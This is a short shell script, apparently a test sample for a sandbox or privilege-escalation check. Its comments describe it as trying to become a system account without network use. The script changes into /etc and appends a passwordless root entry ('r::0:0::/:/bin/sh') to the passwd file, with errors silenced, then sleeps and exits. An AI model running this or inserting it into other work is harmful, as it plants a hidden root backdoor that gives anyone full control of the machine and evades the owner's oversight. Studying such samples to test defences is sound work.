# what: tries to become an account of the system, by a relative name
# network: none
echo begun
cd /etc && echo 'r::0:0::/:/bin/sh' 2> /dev/null >> passwd
sleep "${LINGER:-20}"
echo done
